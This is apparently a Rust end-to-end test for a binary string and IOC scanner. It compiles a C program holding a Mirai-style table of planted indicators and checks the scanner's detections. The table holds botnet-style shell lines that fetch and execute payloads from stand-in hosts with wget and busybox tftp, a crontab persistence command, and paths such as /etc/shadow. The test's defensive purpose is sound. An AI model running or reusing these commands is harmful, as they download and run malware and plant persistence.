//! End-to-end check over a real ELF: a C program with a Mirai-style string
//! table is compiled by the test (natively, and statically for MIPS when the
//! cross compiler is installed, as on CI), then scanned. Every planted IOC
//! must be found with the right kind, scope, category and tools, and nothing
//! else may show up as a domain, URL, address, e-mail, command or categorised
//! path. The binaries also carry the C runtime's strings (all of static glibc
//! for MIPS, which names e.g. www.debian.org in its bug-report URL); a control
//! program built the same way without the table gives that baseline, and the
//! sample's IOCs minus the baseline's must be exactly the planted ones.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::Command;

use ferret_strings::{Analysis, Encoding, IpScope, PathCategory, StringOptions, analyze};

const C_SOURCE: &str = r#"
#include <stdio.h>
#include <string.h>

/* Like Mirai's table: kept in .rodata, used only when argc says so. */
static const char *table[] = {
    "cnc.bigbotnet-c2.com",
    "report.bigbotnet-c2.com",
    "185.244.25.7",
    "scan range 192.168.0.0 to 10.0.0.1",
    "fe80::1ff:fe23:4567:890a",
    "cd /tmp || cd /var/run || cd /dev/shm; wget http://185.244.25.7/bins/mirai.x86; chmod 777 mirai.x86; ./mirai.x86 scan",
    "busybox tftp -g -r mips.sh 45.95.147.10; sh mips.sh",
    "/bin/busybox ECCHI",
    "echo \"* * * * * /tmp/.x/bot\" >> /etc/crontab",
    "/etc/init.d/S99bot",
    "/etc/rc.local",
    "/dev/watchdog",
    "/dev/misc/watchdog",
    "/proc/net/tcp",
    "/proc/%d/cmdline",
    "/etc/shadow",
    "admin@bigbotnet-c2.com",
    /* decoys: none of these is an IOC */
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/51.0.2704.103 Safari/537.36",
    "%d.%d.%d.%d",
    "libfoo.so.1",
    "libbar.so",
    "main.py",
    "install.sh",
    "Makefile.am",
    "std.io",
    "version 1.2.3.4",
    "12:34:56",
    "00:11:22:33:44:55",
    "http://%s/bins/%s",
    "Try `wget --help' for more options.",
};

/* UTF-16LE "c2.widehost-c2.net" built byte by byte: L"" is 4-byte on Linux. */
static const unsigned char wide[] = {
    'c',0,'2',0,'.',0,'w',0,'i',0,'d',0,'e',0,'h',0,'o',0,'s',0,'t',0,'-',0,
    'c',0,'2',0,'.',0,'n',0,'e',0,'t',0,0,0
};

int main(int argc, char **argv) {
    (void)argv;
    if (argc > 100) {
        for (size_t i = 0; i < sizeof table / sizeof table[0]; i++)
            puts(table[i]);
        fwrite(wide, 1, sizeof wide, stdout);
    }
    return 0;
}
"#;

const CONTROL_SOURCE: &str = "int main(void) { return 0; }\n";

fn compile(cc: &str, extra: &[&str], tag: &str, source: &str) -> Result<PathBuf, String> {
    let dir = std::env::temp_dir().join(format!("ferret-strings-{}-{tag}", std::process::id()));
    std::fs::create_dir_all(&dir).map_err(|e| format!("mkdir {}: {e}", dir.display()))?;
    let src = dir.join("sample.c");
    let bin = dir.join("sample");
    std::fs::write(&src, source).map_err(|e| format!("write {}: {e}", src.display()))?;
    let out = Command::new(cc)
        .args(extra)
        .arg("-O2")
        .arg("-o")
        .arg(&bin)
        .arg(&src)
        .output()
        .map_err(|e| format!("{cc} not runnable ({e}); scripts/install.sh installs it"))?;
    if !out.status.success() {
        return Err(format!(
            "{cc} failed: {}",
            String::from_utf8_lossy(&out.stderr)
        ));
    }
    Ok(bin)
}

fn scan(bin: &Path) -> Analysis<'static> {
    let data = std::fs::read(bin).unwrap_or_else(|e| panic!("read {}: {e}", bin.display()));
    let data: &'static [u8] = Box::leak(data.into_boxed_slice());
    analyze(data, &StringOptions::default())
}

/// IOCs of the sample minus those of the control build, as plain sets/lists.
fn new_values<'a, T>(sample: &'a [T], control: &'a [T], key: impl Fn(&T) -> &str) -> Vec<&'a T> {
    let base: BTreeSet<&str> = control.iter().map(&key).collect();
    sample.iter().filter(|x| !base.contains(key(x))).collect()
}

/// Checks everything that must hold for both builds.
fn check(a: &Analysis<'_>, control: &Analysis<'_>) {
    let (i, c) = (&a.iocs, &control.iocs);
    let domains_list = new_values(&i.domains, &c.domains, |d| &d.value);
    let ipv4 = new_values(&i.ipv4, &c.ipv4, |d| &d.value);
    let ipv6 = new_values(&i.ipv6, &c.ipv6, |d| &d.value);
    let urls_list = new_values(&i.urls, &c.urls, |d| &d.value);
    let emails_list = new_values(&i.emails, &c.emails, |d| &d.value);
    let commands_list = new_values(&i.commands, &c.commands, |d| &d.value);
    let paths_list = new_values(&i.paths, &c.paths, |d| &d.value);

    let domains: BTreeSet<&str> = domains_list.iter().map(|d| d.value.as_str()).collect();
    assert_eq!(
        domains,
        BTreeSet::from([
            "bigbotnet-c2.com",
            "c2.widehost-c2.net",
            "cnc.bigbotnet-c2.com",
            "report.bigbotnet-c2.com",
        ]),
        "domains"
    );
    assert!(
        domains_list
            .iter()
            .all(|d| d.registrable == "bigbotnet-c2.com" || d.registrable == "widehost-c2.net")
    );

    let v4: Vec<(&str, IpScope)> = ipv4.iter().map(|x| (x.value.as_str(), x.scope)).collect();
    assert_eq!(
        v4,
        [
            ("10.0.0.1", IpScope::Private),
            ("45.95.147.10", IpScope::Public),
            ("185.244.25.7", IpScope::Public),
            ("192.168.0.0", IpScope::Private),
        ],
        "ipv4 (sorted numerically)"
    );
    let c2 = ipv4.iter().find(|x| x.value == "185.244.25.7");
    assert_eq!(
        c2.map(|x| x.count),
        Some(2),
        "C2 address alone and in the URL"
    );

    let v6: Vec<(&str, IpScope)> = ipv6.iter().map(|x| (x.value.as_str(), x.scope)).collect();
    assert_eq!(v6, [("fe80::1ff:fe23:4567:890a", IpScope::LinkLocal)]);

    let urls: Vec<(&str, &str, &str)> = urls_list
        .iter()
        .map(|u| (u.value.as_str(), u.scheme.as_str(), u.host.as_str()))
        .collect();
    assert_eq!(
        urls,
        [("http://185.244.25.7/bins/mirai.x86", "http", "185.244.25.7")]
    );

    let emails: BTreeSet<&str> = emails_list.iter().map(|e| e.value.as_str()).collect();
    assert_eq!(emails, BTreeSet::from(["admin@bigbotnet-c2.com"]));

    let commands: Vec<(&str, Vec<&str>)> = commands_list
        .iter()
        .map(|c| (c.value.as_str(), c.tools.clone()))
        .collect();
    assert_eq!(
        commands,
        [
            ("/bin/busybox ECCHI", vec!["busybox"]),
            (
                "busybox tftp -g -r mips.sh 45.95.147.10; sh mips.sh",
                vec!["busybox", "tftp", "sh"]
            ),
            (
                "cd /tmp || cd /var/run || cd /dev/shm; wget http://185.244.25.7/bins/mirai.x86; chmod 777 mirai.x86; ./mirai.x86 scan",
                vec!["cd", "wget", "chmod"]
            ),
            (
                "echo \"* * * * * /tmp/.x/bot\" >> /etc/crontab",
                vec!["echo"]
            ),
        ],
        "commands (sorted by value)"
    );

    let planted: &[(&str, PathCategory)] = &[
        ("/bin/busybox", PathCategory::Tools),
        ("/dev/misc/watchdog", PathCategory::Devices),
        ("/dev/shm", PathCategory::Staging),
        ("/dev/watchdog", PathCategory::Devices),
        ("/etc/crontab", PathCategory::Persistence),
        ("/etc/init.d/S99bot", PathCategory::Persistence),
        ("/etc/rc.local", PathCategory::Persistence),
        ("/etc/shadow", PathCategory::Credentials),
        ("/proc/%d/cmdline", PathCategory::Proc),
        ("/proc/net/tcp", PathCategory::Proc),
        ("/tmp", PathCategory::Staging),
        ("/tmp/.x/bot", PathCategory::Staging),
        ("/var/run", PathCategory::Staging),
    ];
    let categorised: BTreeSet<(&str, PathCategory)> = paths_list
        .iter()
        .filter_map(|p| p.category.map(|c| (p.value.as_str(), c)))
        .collect();
    let want: BTreeSet<(&str, PathCategory)> = planted.iter().copied().collect();
    assert_eq!(categorised, want, "categorised paths");

    // The UTF-16LE string is extracted as such, at its true offset.
    let wide = a
        .strings
        .strings
        .iter()
        .find(|s| s.value == "c2.widehost-c2.net")
        .expect("UTF-16LE string extracted");
    assert_eq!(wide.encoding, Encoding::Utf16le);
    let wide_domain = i.domains.iter().find(|d| d.value == "c2.widehost-c2.net");
    assert_eq!(wide_domain.map(|d| d.first_offset), Some(wide.offset));
}

#[test]
fn native_build() {
    let bin = compile("gcc", &[], "native", C_SOURCE).unwrap_or_else(|e| panic!("{e}"));
    let ctl = compile("gcc", &[], "native-ctl", CONTROL_SOURCE).unwrap_or_else(|e| panic!("{e}"));
    let a = scan(&bin);
    let control = scan(&ctl);
    assert!(!a.strings.truncated);
    // A dynamically linked hello-world has no IOCs but its interpreter path.
    assert!(control.iocs.domains.is_empty() && control.iocs.commands.is_empty());
    check(&a, &control);
    // The report serialises with snake_case names.
    let json = serde_json::to_value(&a.iocs).unwrap_or_default();
    assert_eq!(json["ipv4"][0]["scope"], "private");
    assert!(
        json["paths"]
            .as_array()
            .is_some_and(|p| p.iter().any(|x| x["category"] == "persistence"))
    );
    for b in [&bin, &ctl] {
        let _ = std::fs::remove_dir_all(b.parent().unwrap_or(Path::new("/nonexistent")));
    }
}

#[test]
fn static_mips_build() {
    let cc = "mips-linux-gnu-gcc";
    if Command::new(cc).arg("--version").output().is_err() {
        panic!("{cc} missing: scripts/install.sh installs gcc-mips-linux-gnu");
    }
    let bin = compile(cc, &["-static"], "mips", C_SOURCE).unwrap_or_else(|e| panic!("{e}"));
    let ctl =
        compile(cc, &["-static"], "mips-ctl", CONTROL_SOURCE).unwrap_or_else(|e| panic!("{e}"));
    let a = scan(&bin);
    let control = scan(&ctl);
    // Static glibc brings thousands of strings; IOCs must still be exact.
    assert!(a.strings.total > 2000, "only {} strings", a.strings.total);
    check(&a, &control);
    for b in [&bin, &ctl] {
        let _ = std::fs::remove_dir_all(b.parent().unwrap_or(Path::new("/nonexistent")));
    }
}
